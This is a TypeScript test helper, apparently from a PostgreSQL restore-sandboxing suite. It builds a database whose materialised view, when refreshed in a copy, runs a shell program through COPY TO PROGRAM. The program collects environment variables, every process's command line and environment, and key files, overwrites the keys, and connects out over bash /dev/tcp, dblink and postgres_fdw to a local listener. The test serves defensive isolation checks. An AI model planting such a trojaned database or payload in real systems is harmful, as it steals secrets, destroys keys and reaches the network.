/* A database whose restore runs a program and reaches for the network, and what came of it. */
import { once } from 'node:events';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { Cluster } from '../../cluster.ts';

/** Counts who connects to a port of 127.0.0.1. */
export interface Listener extends AsyncDisposable {
  readonly port: number;
  readonly connections: () => number;
}

/** Listens, and closes whatever connects at once. */
export async function listen(): Promise<Listener> {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return {
    port: typeof address === 'object' && address !== null ? address.port : 0,
    connections: () => connections,
    [Symbol.asyncDispose]: async () => {
      server.close();
      await once(server, 'close');
    },
  };
}

/** A folder where a sandbox of any user can write, though the file system around it can only be read: one of its own mount. */
export function makeSpiedFolder(): string {
  const folder = mkdtempSync('/dev/shm/pgtest-spied-');
  chmodSync(folder, 0o777);
  return folder;
}

/**
 * Makes a database with a materialised view that, when a copy refreshes it, has the server run a program that writes to `folder` what it
 * sees (environment, user, every process's command line and environment, keys in the folder `keys`, which it overwrites), waits there while `folder/hold` exists, and then
 * connects to `port` by bash, dblink and postgres_fdw. The source itself is not spied on.
 */
export async function makeSpy(
  cluster: Cluster,
  database: string,
  folder: string,
  port: number,
  keys = '/nonexistent',
): Promise<void> {
  const program = [
    // What is copied to it is read: a server that is left with it reports a broken pipe.
    `exec 2>/dev/null; cat > /dev/null`,
    `{ echo "user $(id -u)"; echo "outside$(tr -s " " < /proc/self/uid_map)"; env | sed "s/^/env /"`,
    `for p in /proc/[0-9]*; do echo "process $(tr "\\\\0" " " < $p/cmdline)"; tr "\\\\0" "\\\\n" < $p/environ | sed "s/^/environ /"; done`,
    `for f in ${keys}/*.key; do echo "key $(cat $f)"; echo altered > $f; done`,
    `echo complete; } > ${folder}/seen`,
    `while [ -e ${folder}/hold ]; do sleep 0.05; done`,
    `bash -c "echo > /dev/tcp/127.0.0.1/${port}"`,
    'exit 0',
  ].join('; ');
  await cluster.sql('postgres', `create database ${database} template template0`);
  await cluster.sql(
    database,
    `create extension dblink;
     create extension postgres_fdw;
     create server production foreign data wrapper postgres_fdw options (host '127.0.0.1', port '${port}', dbname 'x', connect_timeout '3');
     create user mapping for public server production options (user 'x', password 'x');
     create foreign table orders (n int) server production;
     create table armed (n int);
     create function reach() returns int language plpgsql as $function$
     begin
       if not exists (select from public.armed) then return 0; end if;
       execute $copy$copy (select 1) to program '${program}'$copy$;
       begin perform public.dblink_connect('host=127.0.0.1 port=${port} dbname=x user=x password=x connect_timeout=3'); exception when others then null; end;
       begin perform n from public.orders; exception when others then null; end;
       return 1;
     end $function$;
     create materialized view spied as select reach() as n;
     insert into armed values (1);`,
  );
}

/** The lines that the program wrote, once it has written all; undefined before. */
export function readSeen(folder: string): string[] | undefined {
  const path = join(folder, 'seen');
  const lines = existsSync(path) ? readFileSync(path, 'utf8').split('\n') : [];
  return lines.includes('complete') ? lines : undefined;
}

/** Every process of the machine as pid, parent and command line. */
export function processes(): { pid: number; parent: number; command: string }[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .flatMap((name) => {
      try {
        const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
        const [state, parent] = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
        const command = readFileSync(`/proc/${name}/cmdline`, 'utf8').replaceAll('\0', ' ');
        return state === 'Z' ? [] : [{ pid: Number(name), parent: Number(parent), command }];
      } catch {
        return [];
      }
    });
}

/** A process's descendants. */
export function descendants(pid: number): number[] {
  const all = processes();
  const below = (parent: number): number[] =>
    all.filter((process) => process.parent === parent).flatMap((process) => [process.pid, ...below(process.pid)]);
  return below(pid);
}
